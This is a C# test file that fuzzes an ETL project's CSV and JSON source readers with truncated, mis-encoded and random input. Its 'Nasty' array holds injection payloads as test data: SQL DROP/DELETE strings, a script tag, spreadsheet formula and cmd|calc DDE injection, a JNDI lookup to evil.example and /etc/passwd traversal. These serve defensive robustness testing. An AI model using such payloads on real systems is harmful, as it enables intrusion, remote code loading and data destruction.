using System.Text;
using System.Text.Json;
using FsCheck;
using FsCheck.Fluent;
using Warehouse.Etl.Sources;

namespace Warehouse.Etl.Tests.Sources;

/// <summary>
/// Fuzz and abuse cases for every reader: the outcome is always typed records, reject rows or one
/// <see cref="SourceFormatException"/>; never another exception, and text arrives exactly as given.
/// </summary>
public sealed class RobustnessTests
{
    /// <summary>Injection and awkward strings: SQL, script, CSV formula, template/JNDI, path, control and bidi characters, emoji.</summary>
    public static readonly string[] Nasty =
    [
        "Robert'); DROP TABLE Students;--",
        "' OR '1'='1",
        "<script>alert('x')</script>",
        "=HYPERLINK(\"http://evil.example\",\"click\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "../../etc/passwd",
        "a\"b\"\"c,d;e\tf",
        "Zoë 😀 \u202Eevil\u202C ﬁ",
        "1; DELETE FROM [Dimension].[Customer] --",
        "$name @name :name ?",
        "NULL",
    ];

    private static List<SourceItem<T>> Drain<T>(IEnumerable<SourceItem<T>> items)
        where T : class
    {
        var list = new List<SourceItem<T>>();
        try
        {
            list.AddRange(items);
        }
        catch (SourceFormatException ex)
        {
            Assert.False(string.IsNullOrEmpty(ex.SourceName));
            Assert.True(ex.LineNumber >= 1);
            Assert.False(string.IsNullOrEmpty(ex.Reason));
        }
        foreach (var item in list)
            Assert.True(item.Record is null != (item.Reject is null));
        return list;
    }

    private static void AllEqual(string expected, params string?[] actual) => Assert.All(actual, a => Assert.Equal(expected, a));

    private static string CsvField(string s) => "\"" + s.Replace("\"", "\"\"") + "\"";

    [Fact]
    public void Injection_strings_survive_every_csv_text_field_exactly()
    {
        var sb = new StringBuilder("crm_customer_id,full_name,city,country\n");
        foreach (var s in Nasty)
            sb.Append(CsvField(s)).Append(',').Append(CsvField(s)).Append(',').Append(CsvField(s)).Append(',').Append(CsvField(s)).Append('\n');
        var items = CrmCustomerReader.ReadCsv(SourceReaderTests.Utf8(sb.ToString()), "crm.csv").ToList();
        Assert.Equal(Nasty.Length, items.Count);
        foreach (var (item, s) in items.Zip(Nasty))
        {
            var r = item.Record!;
            AllEqual(s, r.CrmCustomerId, r.FullName, r.City, r.Country);
        }

        var survey = new StringBuilder("crm_customer_id,income_band,education,occupation,marital_status\n");
        foreach (var s in Nasty)
            survey.Append(string.Join(',', Enumerable.Repeat(CsvField(s), 5))).Append('\n');
        foreach (var (item, s) in SurveyResponseReader.ReadCsv(SourceReaderTests.Utf8(survey.ToString()), "survey.csv").Zip(Nasty))
            AllEqual(s, item.Record!.CrmCustomerId, item.Record.IncomeBand, item.Record.Education, item.Record.Occupation, item.Record.MaritalStatus);
    }

    [Fact]
    public void Injection_strings_survive_every_json_text_field_exactly()
    {
        var withSpaces = Nasty.Append("  leading and trailing spaces, \r\n new lines\ttabs  ").Append("").ToArray();
        var social = new StringBuilder();
        var web = new StringBuilder();
        var n = 0;
        foreach (var s in withSpaces)
        {
            var trimmed = s.Trim().Length == 0 ? "x" : s.Trim();
            social.Append(JsonSerializer.Serialize(new Dictionary<string, object?>
            {
                ["platform"] = "forum", ["comment_id"] = trimmed, ["handle"] = trimmed, ["timestamp"] = "2024-05-01T10:00:00Z",
                ["text"] = s, ["reply_to"] = trimmed,
            })).Append('\n');
            web.Append(JsonSerializer.Serialize(new Dictionary<string, object?>
            {
                ["visitor_id"] = trimmed, ["customer_id"] = trimmed, ["session_id"] = trimmed, ["timestamp"] = $"2024-05-01T10:{n++:00}:00Z",
                ["page"] = trimmed, ["event_type"] = "page_view", ["product"] = trimmed.Length <= 50 ? trimmed : "p", ["referrer"] = trimmed,
            })).Append('\n');
        }
        var comments = SocialCommentReader.ReadJson(SourceReaderTests.Utf8(social.ToString()), "social.jsonl").ToList();
        foreach (var (item, s) in comments.Zip(withSpaces))
        {
            Assert.False(item.IsRejected, item.Reject?.ToString());
            Assert.Equal(s, item.Record!.Text);
            var t = s.Trim().Length == 0 ? "x" : s.Trim();
            AllEqual(t, item.Record.CommentId, item.Record.Handle, item.Record.ReplyToCommentId);
        }
        var events = WebEventReader.ReadJsonLines(SourceReaderTests.Utf8(web.ToString()), "web.jsonl").ToList();
        foreach (var (item, s) in events.Zip(withSpaces))
        {
            var t = s.Trim().Length == 0 ? "x" : s.Trim();
            AllEqual(t, item.Record!.VisitorId, item.Record.CrmCustomerId, item.Record.SessionId, item.Record.Page, item.Record.Referrer);
        }
    }

    private static readonly string SampleCsv =
        "crm_customer_id,full_name,email,phone,birth_date,gender,city,country,signup_date,consent_marketing,consent_profiling,updated_at\n" +
        "C001,\"Smith, Anna\",anna@example.com,020 7946 0018,1985-02-03,F,London,UK,2020-01-15,yes,no,2024-06-01 09:30:00\n" +
        "C002,\"Bob \"\"B\"\" Jones\",bob@example.org,,1970-04-03,m,Leeds,UK,2021-01-15,1,1,2024-06-01T08:00:00Z\n" +
        "C003,Zoë,,+44 113 496 0000,,,York,UK,,,,\n";

    private static readonly string SampleJson =
        "[{\"platform\":\"forum\",\"comment_id\":\"1\",\"handle\":\"@ann\",\"email\":\"ann@example.com\",\"timestamp\":\"2024-05-01T10:00:00Z\",\"text\":\"Love it, \\\"great\\\"!\",\"likes\":3},\n" +
        " {\"platform\":\"forum\",\"comment_id\":\"2\",\"handle\":\"@bob\",\"timestamp\":\"2024-05-01T11:00:00Z\",\"text\":\"Not good [sic] {x}\",\"reply_to\":\"1\"}]\n";

    [Fact]
    public void Truncated_files_at_every_byte_give_rejects_or_a_format_error_never_a_crash()
    {
        var csv = Encoding.UTF8.GetBytes(SampleCsv);
        for (var cut = 0; cut <= csv.Length; cut++)
            Drain(CrmCustomerReader.ReadCsv(new MemoryStream(csv, 0, cut), "crm.csv"));
        var json = Encoding.UTF8.GetBytes(SampleJson);
        var sawFormatError = false;
        for (var cut = 0; cut < json.Length - 2; cut++)
        {
            try
            {
                SocialCommentReader.ReadJson(new MemoryStream(json, 0, cut), "social.json").ToList();
            }
            catch (SourceFormatException)
            {
                sawFormatError = true;
            }
        }
        // A JSON array cut anywhere before its closing bracket cannot be complete: it must never pass silently.
        Assert.True(sawFormatError);
        for (var cut = 1; cut < json.Length - 2; cut++)
            Assert.Throws<SourceFormatException>(() => SocialCommentReader.ReadJson(new MemoryStream(json, 0, cut), "social.json").ToList());
    }

    [Fact]
    public void Wrong_column_counts_are_rejected_row_by_row()
    {
        var csv = "id,full_name,city\nC1,Ann,Oslo\nC2,Bob\nC3,Cy,Rome,extra\n,\nC5,Di,Bern\n";
        var items = CrmCustomerReader.ReadCsv(SourceReaderTests.Utf8(csv), "crm.csv").ToList();
        Assert.Equal(["C1", "C5"], items.Where(i => !i.IsRejected).Select(i => i.Record!.CrmCustomerId));
        Assert.Equal(["row has 2 fields, the header has 3", "row has 4 fields, the header has 3", "row has 2 fields, the header has 3"],
            items.Where(i => i.IsRejected).Select(i => i.Reject!.Reason));
    }

    [Fact]
    public void Wrong_encodings()
    {
        // UTF-16 with and without byte order mark, Latin-1, Windows-1252 smart quotes.
        var text = SampleCsv;
        Assert.Throws<SourceFormatException>(() => CrmCustomerReader.ReadCsv(new MemoryStream(Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes(text)).ToArray()), "a.csv").ToList());
        // Without a BOM the header's NUL bytes are not a known column: the file is unreadable, and says which column is missing.
        Assert.Throws<SourceFormatException>(() => CrmCustomerReader.ReadCsv(new MemoryStream(Encoding.Unicode.GetBytes(text)), "b.csv").ToList());
        var latin = Drain(CrmCustomerReader.ReadCsv(new MemoryStream(Encoding.Latin1.GetBytes(text)), "c.csv"));
        Assert.Equal(3, latin.Count);
        Assert.Equal("full_name", latin[2].Reject!.ColumnName);
        Assert.Throws<SourceFormatException>(() => SocialCommentReader.ReadJson(new MemoryStream(Encoding.Unicode.GetBytes(SampleJson)), "d.json").ToList());
        var latinJson = Drain(SocialCommentReader.ReadJson(new MemoryStream(Encoding.Latin1.GetBytes(SampleJson.Replace("Love", "Très"))), "e.json"));
        // As for CSV: the property at fault and the encoding hint (audit of issue 6, defect 12b; was System.Text.Json's message, no column).
        Assert.Equal(("text", "not valid UTF-8 (is the file in another encoding? convert it to UTF-8)"), (latinJson[0].Reject!.ColumnName, latinJson[0].Reject!.Reason));
        Assert.False(latinJson[1].IsRejected);
    }

    [FsCheck.Xunit.Property(MaxTest = 200)]
    public void Random_bytes_never_crash_any_reader(byte[] bytes)
    {
        Drain(CrmCustomerReader.ReadCsv(new MemoryStream(bytes), "r.csv"));
        Drain(CrmCustomerReader.ReadJson(new MemoryStream(bytes), "r.json"));
        Drain(SurveyResponseReader.ReadCsv(new MemoryStream(bytes), "r.csv"));
        Drain(SocialCommentReader.ReadJson(new MemoryStream(bytes), "r.json"));
        Drain(new WebSessionizer().Sessionize(WebEventReader.ReadJsonLines(new MemoryStream(bytes), "r.jsonl"), "r.jsonl"));
    }

    [FsCheck.Xunit.Property(MaxTest = 200)]
    public void Mutated_valid_files_never_crash(NonEmptyArray<PositiveInt> positions, byte value)
    {
        foreach (var sample in new[] { SampleCsv, SampleJson })
        {
            var bytes = Encoding.UTF8.GetBytes(sample);
            foreach (var p in positions.Get)
                bytes[p.Get % bytes.Length] = value;
            Drain(CrmCustomerReader.ReadCsv(new MemoryStream(bytes), "m.csv"));
            Drain(SocialCommentReader.ReadJson(new MemoryStream(bytes), "m.json"));
        }
    }

    [FsCheck.Xunit.Property(MaxTest = 100)]
    public bool Any_unicode_text_round_trips_through_the_social_reader(NonNull<string> text)
    {
        // Lone surrogates cannot be stored as UTF-8: System.Text.Json writes them escaped, and reading gives U+FFFD.
        var s = text.Get;
        var json = JsonSerializer.Serialize(new { platform = "p", comment_id = "1", handle = "h", timestamp = "2024-01-01T00:00:00Z", text = s });
        var item = SocialCommentReader.ReadJson(SourceReaderTests.Utf8(json), "s.jsonl").Single();
        var expected = Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(s));
        return !item.IsRejected && item.Record!.Text == expected;
    }
}
